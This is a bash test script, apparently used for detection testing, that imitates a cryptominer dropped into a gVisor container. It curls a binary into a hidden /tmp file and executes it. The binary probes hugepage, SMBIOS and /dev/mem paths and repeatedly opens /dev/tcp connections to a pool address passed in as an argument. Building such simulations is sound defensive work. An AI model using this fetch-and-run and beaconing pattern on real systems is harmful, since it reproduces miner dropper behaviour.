#!/bin/bash
# Runs inside the container: what a dropped miner looks like from outside. Harmless: `w` is a copy of bash, and what it
# connects to closes every connection at once.
#
#   workload.sh HTTP_ADDRESS:PORT POOL_ADDRESS POOL_PORT
set -eu
cd /tmp
curl -sS -o .cache-w "http://$1/w"
chmod +x .cache-w
# It looks for what miners look for, none of which is there in gVisor, and then connects again and again. The
# connections are the program's own: /dev/tcp is opened by bash itself.
# shellcheck disable=SC2016  # the arguments are those of the inner bash
./.cache-w -c '
    for path in /sys/devices/system/node/node0/hugepages/hugepages-2048kB/nr_hugepages \
        /proc/sys/vm/nr_hugepages /sys/firmware/dmi/tables/smbios_entry_point /dev/mem; do
        : 2>/dev/null <"$path" || true
    done
    for attempt in 1 2 3 4 5 6; do
        exec 3<>"/dev/tcp/$1/$2"
        exec 3>&-
        sleep 0.3
    done
' miner "$2" "$3" --donate-level 1
echo "workload done"
